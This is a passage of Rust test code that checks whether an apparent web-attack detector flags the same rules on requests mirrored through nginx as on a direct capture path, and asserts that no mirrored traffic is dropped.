        got.entry(i).or_default().insert(report.rule);
    }
    let want: BTreeMap<usize, BTreeSet<String>> = want
        .into_iter()
        .filter(|(i, _)| served.contains(i))
        .collect();
    assert!(
        want.len() >= PAYLOADS.len() * 3,
        "attacks nginx served: {want:?}"
    );
    println!(
        "{} requests, {} served by nginx, {} of them with detections",
        sample.len(),
        served.len(),
        want.len()
    );
    assert_eq!(
        got,
        want,
        "through nginx's mirror vs the capture path, by request (refused by nginx: {:?})",
        (0..sample.len())
            .filter(|i| !served.contains(i))
            .collect::<Vec<_>>()
    );
    assert_eq!(metrics.mirror_dropped.load(Ordering::Relaxed), 0);
}
